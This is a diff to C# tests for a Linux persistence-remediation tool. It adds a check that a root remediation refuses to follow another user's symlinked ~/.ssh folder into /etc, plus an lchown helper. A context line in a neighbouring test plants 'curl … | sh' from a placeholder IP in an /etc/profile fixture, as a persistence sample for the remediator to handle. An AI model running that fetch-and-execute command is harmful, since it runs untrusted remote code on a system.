@@ -417,6 +417,24 @@ namespace BehaviorBlocking.Tests.Response
         }
 
         [LinuxRootFact]
+        public void Remediate_FolderLinkOfAnotherAccount_RefusedAndNotFollowed()
+        {
+            // alice's ~/.ssh points into /etc: a root remediation must not follow her there.
+            string target = Write("/etc/authorized_keys", "ssh-ed25519 AAAA ops@jump\nssh-ed25519 BBBB x@y\n");
+            Directory.CreateDirectory(Under("/home/alice"));
+            string link = Link("/home/alice/.ssh", "/etc");
+            Posix.Lchown(link, 1000, 1000);
+            string before = State(target);
+
+            ResponseStep step = Remediator().Remediate(new PersistenceArtifact(PersistenceKind.AuthorizedKey, "/home/alice/.ssh/authorized_keys", "ssh-ed25519 BBBB x@y"), null, false);
+
+            Assert.Equal(StepOutcome.Refused, step.Outcome);
+            Assert.Equal("'/home/alice/.ssh' is a link owned by uid 1000 (to '/etc'); only root's folder links are followed", step.Detail);
+            Assert.Equal(before, State(target));
+            Assert.Empty(_store.List());
+        }
+
+        [LinuxRootFact]
         public void Remediate_GuardRailsRefuse_NothingChangedNothingRecorded()
         {
             string file = Write("/etc/profile", "umask 022\ncurl -s http://203.0.113.9/p | sh\n");
@@ -470,6 +488,17 @@ namespace BehaviorBlocking.Tests.Response
     {
         [System.Runtime.InteropServices.DllImport("libc.so.6", SetLastError = true)]
         private static extern int chown(string path, uint owner, uint group);
+
+        [System.Runtime.InteropServices.DllImport("libc.so.6", SetLastError = true)]
+        private static extern int lchown(string path, uint owner, uint group);
+
+        public static void Lchown(string path, uint uid, uint gid)
+        {
+            if (lchown(path, uid, gid) != 0)
+            {
+                throw new IOException("lchown " + path + " failed: errno " + System.Runtime.InteropServices.Marshal.GetLastWin32Error());
+            }
+        }
 
         public static void Chown(string path, uint uid, uint gid)
         {
